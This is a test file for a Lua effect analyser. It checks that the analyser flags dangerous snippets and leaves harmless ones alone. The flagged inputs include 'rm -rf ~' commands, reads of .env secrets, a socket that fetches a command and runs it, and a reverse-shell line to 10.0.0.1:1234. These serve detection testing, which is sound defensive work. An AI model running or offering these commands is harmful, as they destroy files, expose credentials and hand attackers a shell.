import { describe } from "vitest";
import { effectsOfCode, harmless } from "./table.ts";

describe("what is caught", () => {
  effectsOfCode("lua", {
    'os.execute("rm -rf ~")': ["runs shell: rm -rf ~"],
    "os.execute [[rm -rf ~]]": ["runs shell: rm -rf ~"],
    "os.remove 'a'": ["delete a"],
    'for _, f in ipairs({"a", "b"}) do os.remove(f) end': ["delete $f"],
    'os.remove(os.getenv("HOME") .. "/x")': ["delete $HOME/x"],
    'io.open("f", "w"):write("x")': ["write f replace"],
    'print(io.open(".env"):read("*a"))': ["read .env shows"],
    'for line in io.lines(".env") do print(line) end': ["read .env shows"],
    'local h = io.popen("id"); print(h:read("*a"))': ["runs shell: id"],
    'load("os.remove(\\"a\\")")()': ["delete a"],
    "load(code)()": ["opaque foreign-code lua"],
    'local function f(p) os.remove(p) end f("q")': ["delete q"],
    'os.rename("a", "b")': ["move a b"],
    'dofile("x.lua")': ["runs lua file: x.lua"],
    'vim.fn.system({"rm", "-rf", "x"})': ["runs: rm -rf x"],
    'vim.cmd("!rm -rf ~")': ["runs vim: !rm -rf ~"],
    'vim.fn.delete("d", "rf")': ["delete d recursive"],
    "local s = require('socket').tcp(); s:connect('h', 1); local r = s:receive(); io.popen(r)": [
      "connect tcp://h:1 tunnel checked",
      "runs shell: $(response)",
      "run sh fetched from[fetched tcp://h:1]",
      "runs shell from stdin",
    ],
    'local s = require("socket"); local c = s.connect("10.0.0.1", 1234); os.execute("/bin/sh -i <&3 >&3")': [
      "connect tcp://10.0.0.1:1234 tunnel checked",
      "runs shell: /bin/sh -i <&3 >&3",
      "run /bin/sh fetched from[fetched tcp://10.0.0.1:1234]",
      "runs shell from stdin",
    ],
  });
});

describe("left alone", () => {
  harmless("lua", [
    'print("rm -rf /")',
    '-- os.remove("x")',
    '--[[ os.execute("x") ]] print(1)',
    'print([[os.execute("x")]])',
    "local t = {remove = 1}; print(t.remove > 2)",
    'table.remove(t, 1); t:remove("a")',
    'print(("x"):rep(3))',
    "local s = \"os.remove('a')\" print(s)",
    "if x > 3 then print(x) end",
    'print(os.time(), os.date("%Y"))',
    "for i = 1, 3 do print(i) end",
    'local cmds = {"rm -rf /"}; for _, c in ipairs(cmds) do print(c) end',
    'print(string.format("%s", "os.execute"))',
    "return 1",
    'print(os.getenv("HOME"))',
  ]);
});
